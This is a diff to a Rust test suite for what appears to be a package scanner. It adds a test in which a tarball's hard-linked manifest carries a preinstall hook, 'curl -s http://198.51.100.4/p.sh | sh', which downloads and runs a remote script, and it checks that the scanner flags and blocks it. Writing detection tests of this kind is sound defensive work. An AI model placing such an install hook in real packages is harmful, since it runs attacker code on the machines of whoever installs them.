@@ -449,7 +449,33 @@ fn names_that_differ_only_in_invalid_utf8_are_reported_apart() {
     std::fs::write(&one, SH_PAYLOAD).unwrap();
     std::fs::write(&two, "echo fine\n").unwrap();
     let scan = scan(dir.path());
-    assert!(scan.has_finding("", "run\\xFF.sh"), "{:?}", scan.findings());
-    assert!(!scan.has_finding("", "run\\xFE.sh"), "{:?}", scan.findings());
+    assert!(scan.has_finding("", "run%FF.sh"), "{:?}", scan.findings());
+    assert!(!scan.has_finding("", "run%FE.sh"), "{:?}", scan.findings());
+    scan.assert_within(&SMALL);
+}
+
+#[test]
+fn a_hard_linked_manifest_in_a_tarball_is_the_manifest() {
+    let dir = package();
+    let manifest = br#"{"name": "hard", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://198.51.100.4/p.sh | sh"}}"#;
+    let path = dir.path().join("hard-1.0.0.tgz");
+    let file = std::fs::File::create(&path).unwrap();
+    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(file, flate2::Compression::default()));
+    let mut header = tar::Header::new_gnu();
+    header.set_size(manifest.len() as u64);
+    header.set_mode(0o644);
+    tar.append_data(&mut header, "package/manifest.json", manifest.as_slice()).unwrap();
+    let mut header = tar::Header::new_gnu();
+    header.set_entry_type(tar::EntryType::Link);
+    header.set_size(0);
+    header.set_mode(0o644);
+    tar.append_link(&mut header, "package/package.json", "package/manifest.json").unwrap();
+    tar.into_inner().unwrap().finish().unwrap();
+    let scan = scan(&path);
+    assert_eq!(
+        scan.report()["package"]["install_scripts"]["preinstall"],
+        "curl -s http://198.51.100.4/p.sh | sh"
+    );
+    scan.assert_blocked_at("package.json");
     scan.assert_within(&SMALL);
 }
